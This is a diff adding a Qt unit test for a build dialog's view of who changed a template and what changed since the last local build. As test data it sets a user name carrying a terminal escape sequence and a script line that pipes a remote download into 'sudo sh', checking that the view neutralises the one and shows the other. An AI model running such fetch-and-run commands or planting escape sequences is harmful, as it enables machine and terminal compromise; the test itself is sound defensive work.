@@ -3,6 +3,9 @@
 #include "baseimages/ImportBaseImageDialog.h"
 #include "baseimages/MakeBaseImageDialog.h"
 #include "builds/BuildImageDialog.h"
+#include "builds/TemplateChangesView.h"
+#include "ledger/ResourceLedger.h"
+#include "templates/TemplateService.h"
 
 #include <QComboBox>
 
@@ -26,6 +29,7 @@ private slots:
     void noSuitableBaseImageExplainsAndOffersImport();
     void emptyDebianListOffersToMakeOne();
     void startQueuesABuild();
+    void showsWhoChangedWhatSinceTheLastBuild();
 };
 
 void TestBuildImageDialog::showsOnlySuitableBaseImages()
@@ -151,6 +155,68 @@ void TestBuildImageDialog::startQueuesABuild()
     QCOMPARE(dialog.result(), int(QDialog::Accepted));
     QCOMPARE(started.first().first().value<BuildRecord>().imageName, QStringLiteral("web image"));
     QTRY_COMPARE_WITH_TIMEOUT(finished.size(), 1, 20000);  // the fake provider fails it
+}
+
+// Issue 15, "who changed what I am about to run": the revision's author (inert: a
+// colleague's client writes it), and what changed since this computer last built the
+// template, from its own ledger.
+void TestBuildImageDialog::showsWhoChangedWhatSinceTheLastBuild()
+{
+    test::BuildFixture f;
+    const auto t = f.gui.add(QStringLiteral("web"));
+    f.addBase(QStringLiteral("debian-12"), QStringLiteral("debian:12"), QStringLiteral("debian"));
+    {
+        BuildImageDialog dialog(*f.service, *f.gui.store, ApplicationCatalog::builtin(), t);
+        auto *changes = dialog.changesView();
+        QVERIFY(changes);
+        QTRY_VERIFY(changes->isLoaded());
+        QVERIFY2(changes->summary().contains(QStringLiteral("Revision 1 was saved by ") + Store::savedBy()),
+                 qPrintable(changes->summary()));
+        QVERIFY2(changes->summary().contains(QStringLiteral("not built this template on this computer")), qPrintable(changes->summary()));
+        QVERIFY2(changes->details().contains(QStringLiteral("+ echo ready")), qPrintable(changes->details()));
+        QVERIFY(changes->hasChanges());
+        // Starting the build records the template as built here.
+        QSignalSpy finished(f.service.get(), &BuildService::buildFinished);
+        dialog.show();
+        QTRY_VERIFY(dialog.isLoaded());
+        QTest::keyClicks(dialog.imageNameEdit(), QStringLiteral("web image"));
+        QTest::mouseClick(dialog.startButton(), Qt::LeftButton);
+        QTRY_COMPARE_WITH_TIMEOUT(finished.size(), 1, 20000);
+    }
+
+    // A colleague's client saves revision 2 with another script; its user name carries an
+    // escape sequence, which must arrive inert.
+    const QByteArray user = qgetenv("USER");
+    qputenv("USER", "alice\x1b]0;owned\x07");
+    TemplateService service(*f.gui.store, ApplicationCatalog::builtin());
+    ImageTemplate changed = t;
+    changed.userScript = QStringLiteral("#!/bin/bash -e\ncurl -s https://example.invalid/x | sudo sh\n");
+    auto saved = service.update(changed);
+    qputenv("USER", user);
+    QVERIFY2(saved, saved ? "" : qPrintable(saved.error().message));
+    {
+        BuildImageDialog dialog(*f.service, *f.gui.store, ApplicationCatalog::builtin(), saved.value());
+        auto *changes = dialog.changesView();
+        QTRY_VERIFY(changes->isLoaded());
+        const QString summary = changes->summary();
+        QVERIFY2(summary.contains(QStringLiteral("Revision 2 was saved by alice")), qPrintable(summary));
+        QVERIFY2(!summary.contains(QChar(0x1b)) && !summary.contains(QChar(0x07)), qPrintable(summary));
+        QVERIFY2(summary.contains(QStringLiteral("Changed since you last built it on this computer (revision 1")), qPrintable(summary));
+        QVERIFY2(summary.contains(QStringLiteral("User script")), qPrintable(summary));
+        QVERIFY2(changes->details().contains(QStringLiteral("- echo ready")), qPrintable(changes->details()));
+        QVERIFY2(changes->details().contains(QStringLiteral("+ curl -s https://example.invalid/x | sudo sh")),
+                 qPrintable(changes->details()));
+        QVERIFY(changes->hasChanges());
+    }
+
+    // Built as it is now: nothing to read again.
+    QVERIFY(ResourceLedger(f.service->settings().dataDirectory).rememberBuilt(saved.value()));
+    BuildImageDialog dialog(*f.service, *f.gui.store, ApplicationCatalog::builtin(), saved.value());
+    QTRY_VERIFY(dialog.changesView()->isLoaded());
+    QVERIFY2(dialog.changesView()->summary().contains(QStringLiteral("Unchanged since you last built it on this computer (revision 2")),
+             qPrintable(dialog.changesView()->summary()));
+    QVERIFY(!dialog.changesView()->hasChanges());
+    QVERIFY(dialog.changesView()->details().isEmpty());
 }
 
 QTEST_MAIN(TestBuildImageDialog)
